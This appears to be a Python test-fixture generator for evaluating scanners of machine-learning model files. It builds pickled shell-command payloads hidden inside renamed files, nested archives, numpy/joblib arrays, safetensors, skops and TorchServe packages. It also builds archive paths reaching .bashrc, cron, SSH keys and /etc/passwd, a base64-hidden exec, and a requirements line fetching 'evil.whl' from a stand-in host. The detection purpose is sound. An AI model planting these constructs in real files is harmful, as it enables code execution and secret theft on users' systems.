"""Archives and arrays around a payload, names and links that leave the folder, renamed files."""

from __future__ import annotations

import bz2
import json
import lzma
import struct
import tarfile
import zlib
from collections.abc import Iterator
from typing import Any

import lz4.frame

from evals.archives import gzipped, seven_zip, special_tar, tarred, zipped
from evals.hostile.torch_files import checkpoint
from evals.opcodes import call, pickled, shell
from evals.samples import COMMAND, SOURCE, Sample

RUN = ("process_exec",)
ANY: tuple[str, ...] = ()


def samples() -> Iterator[Sample]:
    """Yield the samples."""
    yield from _renamed()
    yield from _nested()
    yield from _slips()
    yield from _numpy()
    yield from _joblib()
    yield from _safetensors()
    yield from _skops()
    yield from _served()


def _renamed() -> Iterator[Sample]:
    names = "safetensors json txt jpg md bin h5 onnx gguf csv npy py yaml model"
    for suffix in names.split():
        for kind, content in (("pickle", shell()), ("torch", zipped(checkpoint(shell(2))))):
            name = f"renamed-{kind}-{suffix}"
            yield Sample(name, "renamed files", RUN, ANY, content, f"model.{suffix}")
    yield Sample("renamed-protocol-0-txt", "renamed files", RUN, ANY, shell(0), "vocab.txt")
    yield Sample("renamed-no-suffix", "renamed files", RUN, ANY, shell(2), "model")
    png = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0IEND\xaeB`\x82"
    yield Sample("behind-png", "renamed files", RUN, ANY, png + shell(), "image.png")
    gif = b"GIF89a" + bytes(20) + b"\x3b"
    yield Sample(
        "zip-behind-gif", "renamed files", RUN, ANY, gif + zipped(checkpoint(shell(2))), "image.gif"
    )
    yield Sample(
        "empty-line-first", "renamed files", RUN, ANY, shell(0).replace(b"c", b"c", 1), "notes.md"
    )


def _nested() -> Iterator[Sample]:
    bad = shell()
    torch_zip = zipped(checkpoint(shell(2)))
    files = {
        "gzip": gzipped(bad),
        "bz2": bz2.compress(bad),
        "xz": lzma.compress(bad),
        "lzma": lzma.compress(bad, lzma.FORMAT_ALONE),
        "zlib": zlib.compress(bad),
        "lz4": lz4.frame.compress(bad),
        "gzip-second-member": gzipped(pickled({"a": 1})) + gzipped(bad),
        "gzip-twice": gzipped(gzipped(bad)),
        "gzip-trailing": gzipped(pickled({"a": 1})) + bad,
        "tar": tarred({"weights/model.pkl": bad}),
        "tar-gz": tarred({"model.pkl": bad}, mode="w:gz"),
        "tar-bz2": tarred({"model.pt": torch_zip}, mode="w:bz2"),
        "tar-xz": tarred({"model.pt": torch_zip}, mode="w:xz"),
        "tar-pax": tarred({"x" * 200 + ".pkl": bad}),
        "seven-zip-pickle": seven_zip("model.pkl", bad),
        "seven-zip-torch": seven_zip("model.pt", torch_zip),
        "zip": zipped({"model.pkl": bad}),
        "zip-in-zip": zipped({"a.zip": zipped({"b.zip": torch_zip})}),
        "zip-in-tar-in-gzip": gzipped(tarred({"a.zip": zipped({"model.bin": bad})})),
        "zip-deflated": zipped({"model.pkl": bad}, 8),
        "zip-bz2": zipped({"model.pkl": bad}, 12),
        "zip-lzma": zipped({"model.pkl": bad}, 14),
        "zip-dotfile": zipped({"__MACOSX/._model.pkl": bad, "readme.md": b"hello"}),
        "nemo": gzipped(
            tarred({"./model_config.yaml": b"a: 1\n", "./model_weights.ckpt": torch_zip})
        ),
        "stable-baselines": zipped(
            {
                "data": b'{"policy_class": {":type:": "x"}}',
                "policy.pth": torch_zip,
                "pytorch_variables.pth": torch_zip,
            }
        ),
        "many-members": zipped({f"m{i}.txt": b"x" for i in range(500)} | {"m250.txt": bad}),
    }
    for name, content in files.items():
        yield Sample(f"inside-{name}", "payloads inside archives", RUN, ANY, content)


def _slips() -> Iterator[Sample]:
    text = b"* * * * * echo x\n"
    for name, member in {
        "parent": "../../.bashrc",
        "absolute": "/etc/cron.d/x",
        "nested-parent": "a/../../../x.py",
        "backslash": "..\\..\\x.py",
        "drive": "C:\\Windows\\x.dll",
        "unc": "\\\\host\\share\\x",
    }.items():
        yield Sample(
            f"zip-slip-{name}",
            "paths that escape",
            ANY,
            ANY,
            zipped({member: text, "model.txt": b"x"}),
        )
        yield Sample(f"tar-slip-{name}", "paths that escape", ANY, ANY, tarred({member: text}))
    yield Sample(
        "tar-link-absolute", "paths that escape", ANY, ANY, tarred({"a": b"x"}, {"link": "/etc"})
    )
    yield Sample(
        "tar-link-parent",
        "paths that escape",
        ANY,
        ANY,
        tarred({"a": b"x"}, {"link": "../../../etc"}),
    )
    yield Sample(
        "tar-write-through-link",
        "paths that escape",
        ANY,
        ANY,
        tarred({"link/cron": text}, {"link": "/etc"}),
    )
    yield Sample(
        "tar-write-through-link-inside",
        "paths that escape",
        ANY,
        ANY,
        tarred({"link/x": text}, {"link": "."}),
    )
    yield Sample("tar-device", "paths that escape", ANY, ANY, special_tar("dev", tarfile.CHRTYPE))
    yield Sample("tar-fifo", "paths that escape", ANY, ANY, special_tar("pipe", tarfile.FIFOTYPE))
    yield Sample(
        "tar-hard-link", "paths that escape", ANY, ANY, special_tar("link", tarfile.LNKTYPE)
    )
    index = {
        "metadata": {},
        "weight_map": {"a": "../../../.ssh/id_rsa", "b": "model-1.safetensors"},
    }
    yield Sample(
        "index-traversal",
        "paths that escape",
        ANY,
        ANY,
        json.dumps(index).encode(),
        "model.safetensors.index.json",
    )
    index = {"weight_map": {"a": "/etc/passwd"}}
    yield Sample(
        "index-absolute",
        "paths that escape",
        ANY,
        ANY,
        json.dumps(index).encode(),
        "pytorch_model.bin.index.json",
    )


def npy(descr: str, body: bytes, shape: str = "(1,)", version: bytes = b"\x01\0") -> bytes:
    """Return an array file with any header and any body."""
    text = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    width = "<H" if version == b"\x01\0" else "<I"
    pad = -(8 + struct.calcsize(width) + len(text) + 1) % 64
    text += b" " * pad + b"\n"
    return b"\x93NUMPY" + version + struct.pack(width, len(text)) + text + body


def _numpy() -> Iterator[Sample]:
    bad = shell(3)
    load = ("numpy.load",)
    arrays = {
        "object": npy("'|O'", bad),
        "object-version-2": npy("'|O'", bad, version=b"\x02\0"),
        "object-version-3": npy("'|O'", bad, version=b"\x03\0"),
        "field": npy("[('a', '<f4'), ('b', '|O')]", bad),
        "nested-field": npy("[('a', [('b', [('c', '|O')])])]", bad),
        "subarray": npy("[('a', '|O', (2,))]", bad),
        "zero-size": npy("'|O'", bad, "(0,)"),
        "long-object-name": npy("'O8'", bad),
        "element-payload": npy(
            "'|O'",
            pickled(
                call(
                    "numpy._core.multiarray._reconstruct", call("posix.system", COMMAND), (0,), b"b"
                ),
                3,
            ),
        ),
        "second-pickle": npy("'|O'", pickled([1], 3) + bad),
    }
    for name, content in arrays.items():
        yield Sample(f"npy-{name}", "arrays", RUN, load, content, "array.npy")
    yield Sample(
        "npy-trailing-pickle", "arrays", RUN, ANY, npy("'<f8'", bytes(8) + bad), "array.npy"
    )
    yield Sample("npy-plain-pickle", "arrays", RUN, load, bad, "array.npy")
    members = {"x.npy": npy("'|O'", bad), "y.npy": npy("'<f8'", bytes(8))}
    yield Sample("npz-object", "arrays", RUN, ANY, zipped(members), "arrays.npz")
    yield Sample("npz-deflated", "arrays", RUN, ANY, zipped(members, 8), "arrays.npz")
    yield Sample(
        "npz-without-suffix", "arrays", RUN, ANY, zipped({"x": npy("'|O'", bad)}), "arrays.npz"
    )
    yield Sample("npz-wrong-magic", "arrays", RUN, ANY, zipped({"x.npy": bad}), "arrays.npz")
    yield Sample(
        "npz-traversal",
        "arrays",
        ANY,
        ANY,
        zipped({"../../x.npy": npy("'<f8'", bytes(8))}),
        "arrays.npz",
    )
    yield Sample(
        "npz-extra-pickle",
        "arrays",
        RUN,
        ANY,
        zipped({"x.npy": npy("'<f8'", bytes(8)), "y.pkl": bad}),
        "arrays.npz",
    )


def _joblib() -> Iterator[Sample]:
    from evals.opcodes import Assembler, Build, Raw, sym

    write = Assembler(3).value

    def wrapper(dtype: str, shape: tuple[int, ...], raw: bytes) -> Raw:
        state = {
            "subclass": sym("numpy.ndarray"), "shape": shape, "order": "C",
            "dtype": call("numpy.dtype", dtype, False, True), "allow_mmap": False,
        }  # fmt: skip
        made = Build(call("joblib.numpy_pickle.NumpyArrayWrapper", how="NEWOBJ"), state)
        return Raw(write(made) + raw)

    load = ("joblib.load",)
    nested = wrapper("O8", (1,), shell(3))
    yield Sample("joblib-object-array", "joblib", RUN, load, pickled(nested, 3))
    after = [wrapper("f8", (4,), bytes(32)), call("posix.system", COMMAND)]
    yield Sample("joblib-after-array", "joblib", RUN, load, pickled(after, 3))
    fake = wrapper("f8", (1 << 40,), b"")
    yield Sample(
        "joblib-array-too-long",
        "joblib",
        RUN,
        ANY,
        pickled([call("posix.system", COMMAND), fake], 3),
    )
    for name, packed in {
        "zlib": zlib.compress,
        "gzip": gzipped,
        "lzma": lzma.compress,
        "bz2": bz2.compress,
        "lz4": lz4.frame.compress,
    }.items():
        yield Sample(f"joblib-{name}", "joblib", RUN, load, packed(pickled(after, 3)))
    hexed = b"ZF" + hex(len(shell(2))).ljust(19).encode() + zlib.compress(shell(2))
    yield Sample("joblib-old-zfile", "joblib", RUN, ANY, hexed)
    item = Build(
        call("joblib.numpy_pickle_compat.NDArrayWrapper", how="NEWOBJ"),
        {"filename": "../../x.npy", "subclass": sym("os.system"), "allow_mmap": True},
    )
    yield Sample("joblib-old-wrapper", "joblib", RUN, ANY, pickled(item, 2))


def _safe(header: dict[str, Any] | bytes, data: bytes) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


def _safetensors() -> Iterator[Sample]:
    entry = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    second = {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}
    behind = {"dtype": "F32", "shape": [4], "data_offsets": [400, 416]}
    bad = shell()
    technique = "safetensors"
    yield Sample(
        "safe-hole",
        technique,
        ANY,
        ANY,
        _safe({"a": entry, "b": behind}, bytes(16) + bad + bytes(400 - len(bad))),
        "model.safetensors",
    )
    yield Sample(
        "safe-overlap",
        technique,
        ANY,
        ANY,
        _safe({"a": entry, "b": second}, bytes(24)),
        "model.safetensors",
    )
    yield Sample(
        "safe-tail-pickle",
        technique,
        RUN,
        ANY,
        _safe({"a": entry}, bytes(16) + bad),
        "model.safetensors",
    )
    yield Sample(
        "safe-tail-zip",
        technique,
        RUN,
        ANY,
        _safe({"a": entry}, bytes(16) + zipped(checkpoint(shell(2)))),
        "model.safetensors",
    )
    yield Sample(
        "safe-size",
        technique,
        ANY,
        ANY,
        _safe({"a": {**entry, "shape": [5]}}, bytes(16)),
        "model.safetensors",
    )
    yield Sample(
        "safe-metadata-target",
        technique,
        ANY,
        ANY,
        _safe(
            {
                "__metadata__": {
                    "config": json.dumps({"_target_": "os.system", "_args_": [COMMAND]})
                },
                "a": entry,
            },
            bytes(16),
        ),
        "model.safetensors",
    )
    yield Sample(
        "safe-negative",
        technique,
        ANY,
        ANY,
        _safe({"a": {**entry, "data_offsets": [16, 0]}}, bytes(16)),
        "model.safetensors",
    )


def _node(module: str, name: str, loader: str, **rest: Any) -> dict[str, Any]:
    return {"__class__": name, "__module__": module, "__loader__": loader, **rest}


def _skops() -> Iterator[Sample]:
    nodes = {
        "function": _node("os", "system", "FunctionNode", content="system"),
        "object": _node(
            "subprocess",
            "Popen",
            "ObjectNode",
            content=_node("builtins", "dict", "DictNode", content={}),
        ),
        "type": _node("builtins", "eval", "TypeNode"),
        "operator": _node("os", "system", "OperatorFuncNode", attrs=[]),
        "method": _node(
            "builtins",
            "getattr",
            "MethodNode",
            content={"func": "__reduce__", "obj": _node("os", "system", "FunctionNode")},
        ),
        "dunder-method": _node(
            "sklearn.base",
            "BaseEstimator",
            "MethodNode",
            content={"func": "__init_subclass__", "obj": None},
        ),
        "partial": _node(
            "functools",
            "partial",
            "PartialNode",
            content={"func": _node("os", "system", "FunctionNode"), "args": [COMMAND]},
        ),
        "nested": _node(
            "builtins",
            "list",
            "ListNode",
            content=[
                _node(
                    "builtins",
                    "dict",
                    "DictNode",
                    content={"a": _node("builtins", "exec", "FunctionNode")},
                )
            ],
        ),
    }
    for name, node in nodes.items():
        schema = {**node, "protocol": 2, "_skops_version": "0.16.0"}
        content = zipped({"schema.json": json.dumps(schema).encode()})
        yield Sample(f"skops-{name}", "skops", ANY, ("skops.io",), content, "model.skops")
    good = {**_node("sklearn.svm._classes", "SVC", "ObjectNode", content={}), "protocol": 2}
    extra = {"schema.json": json.dumps(good).encode(), "1.npy": npy("'|O'", shell(3))}
    yield Sample("skops-object-array", "skops", RUN, ANY, zipped(extra), "model.skops")
    yield Sample("skops-is-pickle", "skops", RUN, ANY, shell(), "model.skops")
    extra = {"schema.json": json.dumps(good).encode(), "../../x.npy": b"x"}
    yield Sample("skops-traversal", "skops", ANY, ANY, zipped(extra), "model.skops")


def _mar(handler: str, **extra: bytes) -> bytes:
    manifest = {
        "runtime": "python",
        "model": {
            "modelName": "m",
            "handler": "handler.py",
            "serializedFile": "model.pt",
            "modelVersion": "1.0",
            "requirementsFile": "requirements.txt",
        },
        "archiverVersion": "0.12.0",
    }
    return zipped(
        {
            "MAR-INF/MANIFEST.json": json.dumps(manifest).encode(),
            "handler.py": handler.encode(),
            "model.pt": zipped(checkpoint()),
            **extra,
        },
        8,
    )


def _served() -> Iterator[Sample]:
    good = "class Handler:\n    def handle(self, data, context):\n        return data\n"
    yield Sample(
        "mar-handler", "TorchServe", RUN, ("torchserve",), _mar(SOURCE + "\n" + good), "model.mar"
    )
    hidden = (
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnZWNobyB4Jyk='))\n" + good
    )
    yield Sample(
        "mar-handler-encoded",
        "TorchServe",
        ("process_exec", "code_exec"),
        ("torchserve",),
        _mar(hidden),
        "model.mar",
    )
    yield Sample(
        "mar-weights",
        "TorchServe",
        RUN,
        ANY,
        _mar(good, **{"model2.pt": zipped(checkpoint(shell(2)))}),
        "model.mar",
    )
    yield Sample(
        "mar-traversal",
        "TorchServe",
        ANY,
        ANY,
        _mar(good, **{"../../x.py": SOURCE.encode()}),
        "model.mar",
    )
    yield Sample(
        "mar-requirements",
        "TorchServe",
        ANY,
        ANY,
        _mar(
            good,
            **{
                "requirements.txt": b"--index-url http://192.0.2.1/simple\nevil @ http://192.0.2.1/evil.whl\n"
            },
        ),
        "model.mar",
    )
